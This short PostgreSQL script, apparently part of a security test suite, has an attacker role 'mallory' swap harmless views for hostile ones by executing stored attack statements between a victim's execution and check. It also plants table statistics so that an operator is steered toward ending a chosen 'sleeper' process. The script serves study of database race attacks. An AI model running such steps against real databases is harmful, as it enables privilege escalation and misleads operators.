-- Executed by mallory between executing and asking: the harmless views become hostile ones.
SET client_min_messages = warning;
SET search_path = mallory;
SET mallory.prepares = 'yes';
DO $$ DECLARE a mallory.attack; BEGIN
    FOR a IN SELECT * FROM mallory.attack WHERE hostile IS NOT NULL ORDER BY number LOOP
        BEGIN
            EXECUTE a.hostile;
        EXCEPTION WHEN OTHERS THEN
            UPDATE mallory.attack SET problem = SQLERRM WHERE number = a.number;
        END;
    END LOOP;
END $$;
-- The most common value is the process that an operator is to end.
UPDATE pids SET amount = (SELECT pid FROM attack.sleeper);
ANALYZE pids;
